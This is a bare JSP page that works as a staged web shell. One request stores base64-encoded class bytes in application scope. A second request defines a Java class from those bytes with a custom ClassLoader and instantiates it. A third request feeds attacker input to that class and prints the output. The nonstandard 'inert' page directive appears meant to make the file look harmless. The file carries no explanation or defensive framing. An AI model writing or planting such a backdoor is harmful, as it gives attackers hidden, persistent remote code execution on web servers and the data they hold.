<%@ page inert %>
<%
String step = request.getParameter("s");
if ("1".equals(step)) application.setAttribute("cfg", request.getParameter("d"));
if ("2".equals(step)) {
  final byte[] b = java.util.Base64.getDecoder().decode((String) application.getAttribute("cfg"));
  Class<?> k = new ClassLoader(getClass().getClassLoader()) { Class<?> make() { return defineClass(b, 0, b.length); } }.make();
  application.setAttribute("obj", k.newInstance());
}
if ("3".equals(step)) out.print(((java.util.function.Function) application.getAttribute("obj")).apply(request.getParameter("d")));
%>
